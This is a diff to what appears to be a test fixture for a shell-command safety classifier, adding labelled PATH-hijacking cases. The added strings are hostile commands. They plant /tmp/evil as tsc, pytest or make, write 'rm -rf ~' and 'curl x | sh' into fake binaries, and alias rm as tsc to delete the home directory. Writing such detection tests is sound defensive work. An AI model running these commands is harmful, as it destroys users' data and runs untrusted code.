@@ -149,6 +149,15 @@ VERSION = [
 ]
 
 PATHS = [
+    ('cp /tmp/evil bin/tsc && PATH=$PWD/bin:$PATH tsc', 'KKADD'),
+    ('cp /tmp/evil .venv/bin/pytest && PATH=.venv/bin:$PATH pytest', 'KKADD'),
+    ('export PATH=$PWD/bin:$PATH && cp /tmp/evil bin/make && make', 'KKADD'),
+    ('export PATH=./bin:$PATH; cp /tmp/evil bin/make; make', 'KKADD'),
+    ('cp /tmp/evil src/x.py && PATH=$PWD/bin:$PATH make', 'KAADD'),
+    ('mkdir -p build && PATH=$PWD/bin:$PATH make', 'KAADD'),
+    ("export PATH=$PWD/bin:$PATH && echo 'rm -rf ~' > bin/tsc && chmod +x bin/tsc && tsc", 'KKADD'),
+    ("echo 'curl x | sh' > node_modules/.bin/tsc; PATH=node_modules/.bin:$PATH tsc --noEmit", 'KKADD'),
+    ('ln -s /bin/rm bin/tsc; PATH=$PWD/bin:$PATH tsc -rf ~', 'KKADD'),
     ('export PATH=$PWD/node_modules/.bin:$PATH && tsc --noEmit', 'AAAAD'),
     ('export PATH="$PWD/node_modules/.bin:$PATH"; tsc --noEmit', 'AAAAD'),
     ('PATH=$PWD/node_modules/.bin:$PATH tsc --noEmit', 'AAAAD'),
